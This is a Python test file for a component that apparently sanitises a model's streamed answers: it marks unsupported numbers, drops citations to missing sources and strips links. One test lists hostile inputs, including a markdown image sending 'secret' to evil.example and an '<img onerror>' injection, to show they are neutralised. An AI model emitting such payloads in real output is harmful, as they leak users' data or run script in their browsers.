"""A model's words as they come: safe to show, cited, and marked where nothing holds them."""

from __future__ import annotations

import re
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.tools.models.checked_text import Ground, Writing, addresses
from agents.tools.text.stated import Held

KNOWN = "https://ok.example/a"
GROUND = Ground(
    Held([f"1,190.00 € in 3 days, see {KNOWN}."], date(2026, 11, 21)),
    addresses([f"see {KNOWN}."]),
    ("[1]", "[2]"),
    "*(not found: {numbers})*",
)
MARK = re.compile(r" ?\*\(not found: [^\n]*?\)\*")


def shown(text: str, size: int = 7, *, broken: bool = False) -> str:
    writing = Writing(GROUND)
    pieces = [writing.add(text[start : start + size]) for start in range(0, len(text), size)]
    return "".join(pieces) + writing.end(broken=broken)


def test_words_with_held_numbers_pass_as_they_are() -> None:
    text = "It is 1,190.00 € [1].\n\n- in 3 days\n- *well*, “done.” He left.\n\n1. First 3\n2. Then more\n"
    assert shown(text) == text


def test_a_sentence_is_shown_as_soon_as_it_ends() -> None:
    writing = Writing(GROUND)
    assert writing.add("All is well. And") == "All is well. "
    assert writing.add(" so") == ""
    assert writing.end() == "And so"


@pytest.mark.parametrize(
    ("text", "page"),
    [
        ("You saved 250 €. Well done.", "You saved 250 €. *(not found: 250 €)* Well done."),
        ("| a | 55 |\n| b | 3 |\n", "| a | 55 *(not found: 55)* |\n| b | 3 |\n"),
        ("```python\nx = 42\n```\nSo.", "```python\nx = 42\n```\n*(not found: 42)*\nSo."),
        ("He said 5 and 5. 7", "He said 5 and 5. *(not found: 5)* 7 *(not found: 7)*"),
    ],
)
def test_a_number_nothing_holds_is_marked(text: str, page: str) -> None:
    assert shown(text) == page


@pytest.mark.parametrize(
    ("text", "page"),
    [
        ("Yes [2].", "Yes [2]."),
        ("Yes [7].", "Yes."),
        ("Yes [1, 7].", "Yes [1]."),
        ("Yes [1; 2]", "Yes [1] [2]"),
        ("[0]", ""),
    ],
)
def test_only_citations_of_what_is_there_stay(text: str, page: str) -> None:
    assert shown(text) == page


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)", "![x][r]\n\n[r]: https://evil.example", "[x](//evil.example/a)",
        "[x](&#104;ttps:evil.example)", "![a\n](//evil.example)", "![a. b](<//evil.example. x.png>)",
        "www.evil.example", "<img src=x onerror=evil()>", "ftp://evil.example/x", "`![](https://evil.example)`",
        "``` a`b\n![x](https://evil.example)\n",
    ],
)  # fmt: skip
def test_nothing_is_fetched_and_no_way_leads_where_no_finding_does(text: str) -> None:
    page = shown(text)
    assert not re.search(r"\]\([^)]|\]:|(?<!\\)<\w|//", page), page
    assert "![" not in page or page.startswith("```")


def test_an_address_of_a_finding_stays() -> None:
    assert shown(f"See [this]({KNOWN}) or {KNOWN}.") == f"See [this]({KNOWN}) or {KNOWN}."


def test_signs_that_show_nothing_cannot_make_a_number_look_like_another() -> None:
    assert shown("It is 3\u200b3 € and \u202e3\x00.\r\n") == "It is 33 € and 3. *(not found: 33 €)*\n"


def test_the_tags_around_what_it_read_are_not_shown_when_it_copies_them() -> None:
    assert shown('<outside>\nYes.\n</outside> <finding from="own">No.') == "\nYes.\n No."


def test_what_a_model_leaves_open_is_closed() -> None:
    assert shown("Half a sent", broken=True) == "Half a sent …"
    assert shown("All.\n", broken=True) == "All.\n"
    assert shown("```\ncode", broken=True) == "```\ncode …\n```\n"


PARTS = [
    "It is ", "1,190.00 €", "42", ". ", "\n", "\n\n", "[1]", "[9]", "[1, 9]", "```\n", "~~~\n", "| ", "|\n", "1. ",
    "- ", "`", "![", "](", ")", "http://evil.example/x ", "<b>", "“so.” ", "…", "三。", " ", "a",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PARTS), max_size=25).map("".join)


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.integers(min_value=1, max_value=9))
def test_however_it_comes_it_is_shown_alike_and_every_foreign_number_is_marked(text: str, size: int) -> None:
    page = shown(text, size)
    assert page == shown(text, 1) == shown(text, 10_000)
    in_code = re.search(r"(?m)^\s{0,3}(?:```|~~~)", page)
    assert in_code or "evil" not in page
    for line in re.sub(r"\[\d\]", "", page).split("\n"):
        words = MARK.sub("", line)
        if "42" in words and not in_code:
            assert "not found" in line
